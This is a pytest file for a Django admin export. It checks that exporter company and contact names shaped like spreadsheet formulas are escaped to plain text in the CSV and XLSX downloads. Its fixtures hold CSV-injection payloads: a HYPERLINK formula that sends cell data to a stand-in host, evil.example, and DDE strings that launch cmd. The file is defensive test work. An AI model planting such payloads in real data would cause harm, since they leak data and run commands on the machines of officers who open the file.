"""The admin's export of registered exporters: a company that names itself like a formula is
plain text in the CSV and the XLSX the officers open, never a live formula."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import ExporterProfileFactory

pytestmark = pytest.mark.django_db
CHANGELIST = "admin:exporters_exporterprofile_changelist"
COMPANY = '=HYPERLINK("https://evil.example/?"&A1,"詳細")'
COMPANY_EN = "+cmd|' /C calc'!A0"
CONTACT = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def formula_company():
    return ExporterProfileFactory(company_name=COMPANY, company_name_en=COMPANY_EN,
                                  contact_name=CONTACT)


def export(client, profile, label):
    """The admin's two steps: the export action's form, then the file in format `label`."""
    step_one = client.post(reverse(CHANGELIST), {
        "action": "export_admin_action", "_selected_action": [profile.pk], "index": "0"})
    assert step_one.status_code == 200
    form = step_one.context["form"]
    choice = next(value for value, name in form.fields["format"].choices
                  if str(name).lower() == label)
    columns = [name for name, field in form.fields.items()
               if getattr(field, "is_selectable_field", False)]
    response = client.post(step_one.context["export_url"], {
        "format": choice, "resource": "0", "export_items": [profile.pk],
        **{name: "on" for name in columns}})
    assert response.status_code == 200, response.content[:1000]
    return response


def test_the_export_offers_csv_and_xlsx(client, manager, formula_company):
    client.force_login(manager)
    step_one = client.post(reverse(CHANGELIST), {
        "action": "export_admin_action", "_selected_action": [formula_company.pk],
        "index": "0"})
    labels = {str(name).lower() for _value, name in step_one.context["form"].fields[
        "format"].choices if _value != ""}
    assert labels == {"csv", "xlsx"}


def test_a_formula_like_company_name_is_text_in_the_csv_export(client, manager,
                                                               formula_company):
    client.force_login(manager)
    rows = list(csv.DictReader(io.StringIO(
        export(client, formula_company, "csv").content.decode("utf-8-sig"))))
    assert len(rows) == 1
    assert rows[0]["company_name"] == "'" + COMPANY
    assert rows[0]["company_name_en"] == "'" + COMPANY_EN
    assert rows[0]["contact_name"] == "'" + CONTACT
    assert rows[0]["corporate_number"] == formula_company.corporate_number


def test_a_formula_like_company_name_is_text_in_the_xlsx_export(client, manager,
                                                                formula_company):
    client.force_login(manager)
    response = export(client, formula_company, "xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    header, row = list(sheet.iter_rows(values_only=True))
    record = dict(zip(header, row, strict=True))
    assert record["company_name"] == "'" + COMPANY
    assert record["company_name_en"] == "'" + COMPANY_EN
    assert record["contact_name"] == "'" + CONTACT
    assert record["corporate_number"] == formula_company.corporate_number
